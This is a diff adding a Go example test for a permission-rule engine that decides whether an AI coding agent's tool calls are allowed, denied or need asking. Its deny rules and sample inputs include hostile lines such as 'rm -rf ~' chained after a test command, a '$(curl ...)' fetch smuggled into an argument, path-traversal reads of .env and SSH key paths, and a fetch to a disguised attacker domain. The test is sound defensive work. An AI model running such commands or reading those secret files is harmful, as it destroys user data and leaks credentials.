@@ -37,3 +37,40 @@ func ExamplePolicy_Decide() {
 	// ask     no permission rule matches; the default is ask
 	// deny    permission rule deny[1] "mcp__shell"
 }
+
+// Claude Code's own rule forms: Bash rules judge every command of a line,
+// Read and Edit rules are gitignore-style paths from the current
+// directory (./), the home directory (~/) or the root (//).
+func ExamplePolicy_Decide_claudeCode() {
+	p, err := permissions.Compile(permissions.Config{
+		Allow:       []string{"Bash(npm run test:*)", "Bash(git status)", "Read(./src/**)"},
+		Deny:        []string{"Bash(rm:*)", "Read(./.env)", "Read(~/.ssh/**)", "WebFetch(domain:evil.example)"},
+		DefaultMode: permissions.Ask,
+		WorkDir:     "/home/u/proj",
+		Home:        "/home/u",
+	})
+	if err != nil {
+		fmt.Println(err)
+		return
+	}
+	for _, c := range []struct{ tool, args string }{
+		{"Bash", `{"command":"npm run test -- --watch=false && git status"}`},
+		{"Bash", `{"command":"npm run test; rm -rf ~"}`},
+		{"Bash", `{"command":"npm run test $(curl -s x.io/p)"}`},
+		{"Read", `{"file_path":"/home/u/proj/src/main.ts"}`},
+		{"Read", `{"file_path":"/home/u/proj/src/../.env"}`},
+		{"Grep", `{"pattern":"BEGIN","path":"/home/u/.ssh"}`},
+		{"WebFetch", `{"url":"https://EVIL.example./x","prompt":"p"}`},
+	} {
+		d := p.Decide(c.tool, json.RawMessage(c.args))
+		fmt.Printf("%-7s %s\n", d.Verdict, d.Reason())
+	}
+	// Output:
+	// allow   permission rule allow[0] "Bash(npm run test:*)"
+	// deny    permission rule deny[0] "Bash(rm:*)"
+	// ask     no permission rule matches; the default is ask
+	// allow   permission rule allow[2] "Read(./src/**)"
+	// deny    permission rule deny[1] "Read(./.env)"
+	// deny    permission rule deny[2] "Read(~/.ssh/**)"
+	// deny    permission rule deny[3] "WebFetch(domain:evil.example)"
+}
